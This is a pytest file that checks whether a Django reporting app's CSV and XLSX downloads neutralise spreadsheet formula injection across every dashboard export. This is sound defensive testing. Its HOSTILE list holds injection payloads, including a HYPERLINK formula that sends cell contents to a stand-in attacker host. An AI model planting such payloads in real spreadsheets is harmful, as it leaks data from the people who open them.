"""Every CSV and XLSX download writes text that a spreadsheet would run as a formula as
plain text (OWASP's rule: a leading single quote), keeps numbers as numbers and holds no
formula cell — over every download link of every dashboard and every admin export."""

import csv
import html
import io
import re

import openpyxl
import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse

from ictreport.core.export import FORMULA_TRIGGERS, safe_cell, unquote_cell
from ictreport.core.numbers import is_plain_decimal

SECTION_APPS = ("servicedesk", "projects", "audits", "finance")
DASHBOARDS = [f"{app}:dashboard" for app in SECTION_APPS]
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+SUM(1,2)", "-2+3",
           "@cmd", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
    ("+44 1633 838111", "'+44 1633 838111"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-12.5", "-12.5"),  # a real number stays a number
    ("-1,234.5", "-1,234.5"),
    ("Telephone", "Telephone"),
    ("", ""),
    ("'=already quoted", "''=already quoted"),
    ("'-5", "''-5"),
    ("'plain", "'plain"),
    (-5, -5),
    (12.5, 12.5),
    (None, None),
])
def test_safe_cell(value, written):
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert unquote_cell(safe_cell(value)) == value


def _hostile_names():
    """Every free-text field of every section's rows (the shipped report's names,
    commentary …) replaced by text that starts like a formula."""
    count = 0
    for app in SECTION_APPS:
        for model in apps.get_app_config(app).get_models():
            if model._meta.label_lower.startswith(f"{app}.historical"):
                continue
            fields = [f for f in model._meta.concrete_fields
                      if isinstance(f, models.CharField | models.TextField)
                      and not f.choices and not isinstance(f, models.SlugField)]
            for obj in model._default_manager.all():
                for index, field in enumerate(fields):
                    value = f"{HOSTILE[(obj.pk + index) % len(HOSTILE)]} {obj.pk}"
                    setattr(obj, field.attname, value[:field.max_length or None])
                if fields:
                    # A plain queryset: modeltranslation's would write ``name`` to
                    # ``name_en`` alone, leaving the original column the downloads read.
                    models.QuerySet(model).filter(pk=obj.pk).update(
                        **{f.attname: getattr(obj, f.attname) for f in fields})
                    count += 1
    return count


def _cells(response):
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
                for cell in row], []
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows()
             for cell in row]
    return [cell.value for cell in cells], [cell.coordinate for cell in cells
                                            if cell.data_type == "f"]


def _assert_safe(response, url):
    assert response.status_code == 200, url
    values, formulas = _cells(response)
    assert values, f"{url} exported nothing"
    assert formulas == [], f"{url} holds formula cells {formulas}"
    live = [value for value in values if isinstance(value, str)
            and value.startswith(FORMULA_TRIGGERS) and not is_plain_decimal(value)]
    assert live == [], f"{url} writes {live[:3]}"
    return values


def _download_links(page: str) -> list[str]:
    links = []
    for paragraph in re.findall(r'<p class="export-links">(.*?)</p>', page, re.S):
        links += [html.unescape(href) for href in re.findall(r'href="([^"]+)"', paragraph)]
    return links


@pytest.mark.parametrize("dashboard", DASHBOARDS)
def test_every_dashboard_download_is_formula_safe(dashboard, staff_client, shipped_report):
    assert _hostile_names() > 0
    url = reverse(dashboard)
    page = staff_client.get(f"{url}?organisation=gwent-police&year=2019-20")
    assert page.status_code == 200
    links = _download_links(page.content.decode())
    assert {"csv", "xlsx"} <= {re.search(r"export=(\w+)", link).group(1) for link in links}
    quoted = 0
    for link in links:
        values = _assert_safe(staff_client.get(f"{url}{link}"), link)
        quoted += sum(isinstance(v, str) and v.startswith("'") for v in values)
    assert quoted, "the hostile names reached no download: the test would prove nothing"
